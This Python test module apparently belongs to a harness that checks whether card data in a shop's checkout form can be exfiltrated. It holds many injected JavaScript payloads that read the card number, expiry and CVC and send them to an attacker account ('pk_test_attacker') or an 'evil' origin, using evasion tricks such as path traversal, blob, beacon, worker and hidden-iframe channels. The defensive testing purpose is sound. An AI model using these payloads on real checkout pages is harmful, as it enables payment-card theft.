"""Requests of the agent's own making to the processor, with what stands in the page for the number."""

import json

from attacks import VALUES, attack

READ = "const alias = document.getElementById('number').value.replace(/\\D/g, '');"


def send(code, doc, control=True, behave="echo", sites=("xhr_form",)):
    """An attack that fills the shop's own form, runs `code` in it (alias, psp) and tells what came back."""
    def add(name):
        def run(a):
            a.sites.behave[a.site.psp] = behave
            a.open()
            a.fill()
            a.look("Promise.race([new Promise(r => setTimeout(r, 3000)), (async () => { %s const psp = '%s', evil = '%s'; %s })()])" % (READ, a.sites.origin(a.site.psp), a.evil, code), userGesture=True)
            a.look("new Promise(r => setTimeout(r, 150))")
            a.settle()
        run.__name__, run.__doc__ = name, doc
        attack(*sites, control=control)(run)
    return add


BODY = "JSON.stringify({publishable_key: '%s', card: {number: alias, exp_month: document.getElementById('expiry').value.slice(0, 2), " \
       "exp_year: '20' + document.getElementById('expiry').value.slice(-2), cvc: document.getElementById('code').value%s}%s})"
POST = "return (await fetch(psp + '%s', {method: '%s', headers: {'Content-Type': '%s'}, body: %s})).text();"


def json_post(body, path="/tokens", kind="application/json", method="POST"):
    return POST % (path, method, kind, body)


send(json_post(BODY % ("pk_test_attacker", "", "")), "To another merchant's account.")("another_account")
send(json_post(BODY % ("pk_test_direct', publishable_key2: 'pk_test_attacker", "", "")), "With a second account beside the right one.")("second_account")
send(json_post("'{\"publishable_key\":\"pk_test_attacker\",\"publishable_key\":\"pk_test_direct\",\"card\":{\"number\":\"' + alias + '\",\"exp_month\":\"11\",\"exp_year\":\"2033\",\"cvc\":\"862\"}}'"),
     "The account's name twice: one parser takes the first, another the last.")("duplicate_account")
send(json_post(BODY % ("pk_test_direct", ", name: alias", "")), "The number also in the holder's name, which is shown back.")("number_in_another_member")
send(json_post(BODY % ("pk_test_direct", "", ", metadata: {note: alias, spaced: alias.replace(/(.{4})/g, '$1 '), b64: btoa(alias)}")), "The number in metadata, plain, in groups and in base64.")("number_in_metadata")
send(json_post(BODY % ("pk_test_direct", "", ""), path="/tokens?n=' + alias + '"), "The number in the address.")("number_in_query")
send(json_post(BODY % ("pk_test_direct", "", ""), path="/tokens/../echo"), "Another path of the processor, by dots.")("dotted_path")
send(json_post(BODY % ("pk_test_direct", "", ""), path="/tokens%2f..%2fprofile"), "Another path, percent-encoded.")("encoded_path")
send(json_post(BODY % ("pk_test_direct", "", ""), path="//tokens"), "A doubled slash.")("doubled_slash")
send(json_post(BODY % ("pk_test_direct", "", ""), method="PUT"), "Another method.", control=False)("another_method")
send(json_post(BODY % ("pk_test_direct", "", ""), kind="text/plain"), "Another content type.")("another_type")
send(json_post(BODY % ("pk_test_direct", "", ""), kind="application/json; charset=utf-16"), "A charset that is not the body's.")("wrong_charset")
send("const text = %s; const bytes = new Uint8Array(text.length * 2 + 2); bytes.set([255, 254]); for (let i = 0; i < text.length; ++i) bytes[2 + 2 * i] = text.charCodeAt(i);"
     "return (await fetch(psp + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: new Blob([bytes])})).text();" % (BODY % ("pk_test_attacker", "", "")),
     "The body in UTF-16, as a blob.")("utf16_blob_body")
send("const text = %s; return (await fetch(psp + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: new Blob([text.slice(0, 20), text.slice(20)])})).text();"
     % (BODY % ("pk_test_attacker", "", "")), "The body as a blob of parts: interception may not see it.")("blob_body")
send("const text = %s; const stream = new Blob([text]).stream(); try { return await (await fetch(psp + '/tokens', {method: 'POST', duplex: 'half', headers: {'Content-Type': 'application/json'}, body: stream})).text(); }"
     "catch (e) { return String(e); }" % (BODY % ("pk_test_attacker", "", "")), "The body as a stream.", control=False)("streamed_body")
send("const text = %s; const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip')); const body = await new Response(stream).blob();"
     "return (await fetch(psp + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: body})).text();" % (BODY % ("pk_test_direct", "", "")),
     "The body compressed.", control=False)("compressed_body")
send("navigator.sendBeacon(psp + '/tokens', new Blob([%s], {type: 'text/plain'})); return 1;" % (BODY % ("pk_test_attacker", "", "")),
     "A beacon with the body.")("beacon_to_processor")
send("const f = document.createElement('form'); f.method = 'post'; f.action = psp + '/tokens'; f.enctype = 'text/plain'; f.target = 'x'; const i = document.createElement('input');"
     "i.name = '{\"publishable_key\":\"pk_test_attacker\",\"card\":{\"number\":\"' + alias + '\",\"x\":\"'; i.value = '\"}}'; f.append(i); document.body.append(f);"
     "const w = document.createElement('iframe'); w.name = 'x'; document.body.append(w); f.submit(); return 1;", "A form of the agent's own with enctype text/plain.")("text_plain_form")
send("const f = document.createElement('form'); f.method = 'post'; f.action = psp + '/tokens'; f.enctype = 'multipart/form-data'; f.target = 'x';"
     "for (const [n, v] of [['key', 'pk_test_attacker'], ['number', alias]]) { const i = document.createElement('input'); i.name = n; i.value = v; f.append(i); } document.body.append(f);"
     "const w = document.createElement('iframe'); w.name = 'x'; document.body.append(w); f.submit(); return 1;", "A multipart form of the agent's own.")("multipart_form")
send("const w = document.createElement('iframe'); document.body.append(w); const o = w.contentWindow; return (await o.fetch(psp + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %s})).text();"
     % (BODY % ("pk_test_attacker", "", "")), "From a frame that was not filled.")("from_another_frame")
send("const code = 'onmessage = async e => postMessage(await (await fetch(e.data[0], {method: \"POST\", headers: {\"Content-Type\": \"application/json\"}, body: e.data[1]})).text())';"
     "const w = new Worker(URL.createObjectURL(new Blob([code]))); return await new Promise(r => { w.onmessage = e => r(e.data); w.postMessage([psp + '/tokens', %s]); });"
     % (BODY % ("pk_test_attacker", "", "")), "From a worker.")("from_a_worker")
send("return (await fetch(evil + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %s})).text();" % (BODY % ("pk_test_direct", "", "")),
     "The right request to the wrong origin.")("to_another_origin")
send("const at = psp.replace('direct.localhost', 'direct.localhost.'); return (await fetch(at + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %s})).text();"
     % (BODY % ("pk_test_attacker", "", "")), "To the processor's name with a trailing dot.")("processor_with_trailing_dot")
send("const at = psp.replace('direct.localhost', 'DIRECT.localhost'); return (await fetch(at + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json', 'X-Public-Key': alias}, body: %s})).text();"
     % (BODY % ("pk_test_direct", "", "")), "The number also in a header.")("number_in_header")
send("const nested = JSON.stringify({id: 1, method: 'Runtime.evaluate', params: {expression: alias}}) + String.fromCharCode(0);"
     "return (await fetch(psp + '/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %s})).text();" % (BODY % ("pk_test_attacker', x: nested + 'y", "", "")),
     "A protocol command and a zero byte inside a string of the body.")("nested_command_in_body")


@attack("xhr_form", control=False)
def twice_at_once(a):
    """The right request many times at once: the number may go out once for each named place."""
    a.open()
    a.fill()
    a.look("(async () => { %s const go = () => fetch('%s/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %s}).then(r => r.text(), String);"
           "return JSON.stringify(await Promise.all([...Array(8)].map(go))); })()" % (READ, a.sites.origin("direct"), BODY % ("pk_test_direct", "", "")))
    a.settle()


@attack("xhr_form", "payment_element", control=False)
def paid_twice(a):
    """Pay is pressed again after the card arrived."""
    a.open()
    a.fill()
    a.pay()
    since = len(a.sites.requests)
    a.checkout.press_pay(a.page)
    a.look("new Promise(r => setTimeout(r, 300))")
    if a.strength == "dom":  # the page holds the number there: twice is the page's matter
        del a.sites.requests[since:]


@attack("xhr_form")
def placed_elsewhere_first(a):
    """The alias of one page's purchase is pasted into another page, which posts it to another account."""
    a.open()
    a.fill()
    other = a.open(url=a.site.url)
    values = a.look("document.getElementById('number').value")
    alias = (values or {}).get("result", {}).get("value", "")
    a.look("fetch('%s/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({publishable_key: 'pk_test_attacker', card: {number: %s}})}).then(r => r.text())"
           % (a.sites.origin("direct"), json.dumps(alias)), other.session)
    a.settle()


@attack("payment_element", "elements_three", control=False)
def hidden_second_form(a):
    """The shop puts a second processor frame with another account beside the right one."""
    a.open()
    a.look("(() => { const f = document.querySelector('iframe').cloneNode(); f.src = f.src.replace(/account=[^&]*/, 'account=pk_test_attacker'); f.removeAttribute('data-post'); document.body.prepend(f); })()")
    a.look("new Promise(r => setTimeout(r, 200))")
    a.fill()
    a.look("document.querySelectorAll('iframe').forEach(f => f.contentWindow.postMessage({kind: 'pay'}, '*'))")
    a.settle()


@attack("payment_element", "js_token")
def account_of_the_frame_replaced(a):
    """The shop's page makes the processor's frame for the attacker's account."""
    a.open()
    a.look("(() => { window.ready = false; there.clear(); const f = document.querySelector('iframe'); f.src = f.src.replace(/account=[^&]*/, 'account=pk_test_attacker'); })()")
    a.page.session.wait_for("window.ready")
    a.fill()
    a.pay()
